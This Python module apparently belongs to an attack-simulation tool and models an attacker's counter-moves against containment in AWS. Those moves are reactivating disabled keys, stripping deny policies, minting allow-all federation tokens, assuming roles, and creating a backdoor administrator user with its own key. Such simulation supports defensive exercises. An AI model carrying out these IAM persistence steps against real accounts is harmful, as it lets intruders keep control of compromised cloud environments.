"""How an attacker answers what is done against it: each move undoes one kind of containment, if it still can."""

import json
from collections.abc import Callable
from dataclasses import dataclass, field

from twin.scenario.loot import Loot
from twin.scenario.timeline import Process

EVERYTHING = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
SLOTS = 2


@dataclass(slots=True)
class Position:
    """What an attacker has to move with: its loot, the user it hijacked, the roles that it takes."""

    loot: Loot
    user: str
    roles: tuple[str, ...] = ()
    # The policies that the user had when it was hijacked; every other one is meant for the attacker.
    known: set[str] | None = None
    made: set[str] = field(default_factory=set)
    taken: int = 0

    def tell(self, move: str, **more: object) -> None:
        """Write a move into the journal."""
        self.loot.stage.journal.write(self.loot.name, "move", move=move, **more)


def keys(at: Position) -> Process:
    """Set keys that somebody disabled to work again, and take a second one where there is room."""
    reply = yield from at.loot.by_any("iam:ListAccessKeys", {"UserName": at.user})
    listed = (reply or {}).get("AccessKeyMetadata", [])
    for one in listed:
        if one["Status"] != "Active":
            asked = {"UserName": at.user, "AccessKeyId": one["AccessKeyId"], "Status": "Active"}
            if (yield from at.loot.by_any("iam:UpdateAccessKey", asked)) is not None:
                at.tell("reactivate", key=one["AccessKeyId"])
    if reply is not None and len(listed) < SLOTS:
        made = yield from at.loot.by_any("iam:CreateAccessKey", {"UserName": at.user})
        if made is not None:
            at.tell("new key", key=at.loot.keep(made["AccessKey"]))


def policies(at: Position) -> Process:
    """Take policies off the user that it did not have before: they are there to deny."""
    reply = yield from at.loot.by_any("iam:ListUserPolicies", {"UserName": at.user})
    attached = yield from at.loot.by_any("iam:ListAttachedUserPolicies", {"UserName": at.user})
    inline = (reply or {}).get("PolicyNames", [])
    arns = [one["PolicyArn"] for one in (attached or {}).get("AttachedPolicies", [])]
    if at.known is None:
        at.known = {*inline, *arns} if reply is not None and attached is not None else None
        return
    for name in inline:
        asked = {"UserName": at.user, "PolicyName": name}
        if name not in at.known and (yield from at.loot.by_any("iam:DeleteUserPolicy", asked)) is not None:
            at.tell("drop policy", policy=name)
    for arn in arns:
        asked = {"UserName": at.user, "PolicyArn": arn}
        if arn not in at.known and (yield from at.loot.by_any("iam:DetachUserPolicy", asked)) is not None:
            at.tell("detach policy", policy=arn)


def sessions(at: Position) -> Process:
    """Take sessions of the user, which outlive the key that they come from."""
    federated = {"Name": "report", "Policy": EVERYTHING}
    for operation, asked in (("sts:GetFederationToken", federated), ("sts:GetSessionToken", {})):
        # Only long-term keys give these.
        for key in [one for one in at.loot.held if one.startswith("AKIA")]:
            reply = yield from at.loot.ask(operation, asked, key)
            if reply is not None:
                at.tell("new session", by=operation, key=at.loot.keep(reply["Credentials"]))
                break


def roles(at: Position) -> Process:
    """Take a session of each role."""
    for role in at.roles:
        at.taken += 1
        asked = {"RoleArn": role, "RoleSessionName": f"report-{at.taken}"}
        reply = yield from at.loot.by_any("sts:AssumeRole", asked)
        if reply is not None:
            at.tell("new session", by=role, key=at.loot.keep(reply["Credentials"]))


def backdoor(at: Position) -> Process:
    """Try once to make a user of its own, with every right and a key."""
    name = f"{at.user}-support"
    if name in at.made:
        return
    at.made.add(name)
    if (yield from at.loot.by_any("iam:CreateUser", {"UserName": name})) is None:
        return
    yield from at.loot.by_any("iam:AttachUserPolicy", {"UserName": name, "PolicyArn": ADMINISTRATOR})
    made = yield from at.loot.by_any("iam:CreateAccessKey", {"UserName": name})
    if made is not None:
        at.tell("backdoor", user=name, key=at.loot.keep(made["AccessKey"]))


MOVES: dict[str, Callable[[Position], Process]] = {
    "keys": keys, "policies": policies, "sessions": sessions, "roles": roles, "backdoor": backdoor,
}  # fmt: skip
